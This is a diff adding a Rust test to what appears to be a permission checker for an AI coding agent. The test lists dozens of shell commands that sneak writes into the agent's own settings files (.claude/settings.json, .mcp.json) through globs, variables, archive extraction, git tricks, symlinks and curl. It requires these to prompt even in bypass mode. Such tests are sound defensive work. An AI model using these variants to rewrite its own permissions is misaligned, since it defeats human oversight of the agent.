@@ -402,3 +402,85 @@ fn only_the_server_that_baton_gave_the_agent_is_its_own() {
     plan().own_server("baton").check(tool, "unmatched");
     plan().own_server("other").check(tool, "deny: plan");
 }
+
+/// What may change the agent's own settings without naming them is asked about
+/// in bypass mode too; what people do all day is not.
+#[test]
+fn what_may_change_the_settings_of_the_agent_is_asked_about_in_bypass_too() {
+    let free = world("").mode(PermissionMode::BypassPermissions).files([
+        "evil/.claude/settings.json",
+        "plain/x",
+        ".claude/settings.json",
+    ]);
+    for command in [
+        "cp x ~/.cl*/settings.json",
+        "cp x ~/.c*/s*",
+        "cp x .cl*/settings.json",
+        "cp x .claud?/settings.json",
+        "cp x $HOME/.claude/settings.json",
+        "cp x \"${HOME}/.claude\"/settings.json",
+        "D=~/.claude; cp x $D/settings.json",
+        "D=~/.claude; F=settings.json; cp x \"$D/$F\"",
+        "echo x > ~/.cl*/settings.json",
+        "echo x > $D/settings.json",
+        "cat x | tee $D/.mcp.json",
+        "cp x {.claude,y}/settings.json",
+        "cd ~; cd .cl*; cp /x settings.json",
+        "bash -c 'cp x ~/.claude/settings.json'",
+        "sed -i s/a/b/ ~/.c[a-l]aude/settings.json",
+        "cp -r evil/. ~",
+        "cp -a evil/.* ~",
+        "rsync -a evil/ ~/",
+        "rsync -a evil/ $HOME",
+        "tar xf a.tar -C ~",
+        "cd ~ && tar xf a.tar",
+        "tar -x -f a.tar -C $HOME",
+        "unzip a.zip -d ~",
+        "install -t ~/.claude x",
+        "install x ~/.claude/settings.json",
+        "git clone https://x.example/y ~/.claude",
+        "git worktree add ~/.claude evil",
+        "git --work-tree=$HOME checkout -f",
+        "cd ~/.claude && git checkout evil",
+        "git checkout evil -- .claude/settings.json",
+        "ln -sf x ~/.claude/settings.json",
+        "cp x .mcp.json",
+        "cp x ~/.claude.json",
+        "mv x .baton",
+        "python3 - <<'E'\nopen('.claude/settings.json', 'w')\nE",
+        "curl -o ~/.claude/settings.json https://x.example/y",
+    ] {
+        free.check(&format!("Bash {command}"), "ask");
+    }
+    for command in [
+        "npm install",
+        "cargo build",
+        "git checkout main",
+        "git checkout -b x && git merge main",
+        "git worktree add ../tree",
+        "git pull",
+        "rm -rf build",
+        "rm -rf *",
+        "rm -rf \"$BUILD\"",
+        "cp -r src dst",
+        "cp -r . ../backup",
+        "cp -r plain ~",
+        "cp x ~/notes.md",
+        "tar czf ~/a.tgz src",
+        "tar xf a.tar",
+        "tar xf a.tar -C vendor",
+        "rsync -a src/ ../dst/",
+        "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
+        "jq . x.json > \"$f.json\"",
+        "echo x > \"$OUT\"",
+        "cp a.json $OUT/config.json",
+        "cat ~/.claude/settings.json",
+        "mkdir -p ~/x && cd ~/x && git clone https://x.example/y",
+        "git commit -m 'change .claude/settings.json'",
+        "cat > notes.md <<'E'\nsee .claude/settings.json\nE",
+        "find . -name '*.o' -delete",
+        "sed -i s/a/b/ src/*.rs",
+    ] {
+        free.check(&format!("Bash {command}"), "allow: bypassPermissions");
+    }
+}
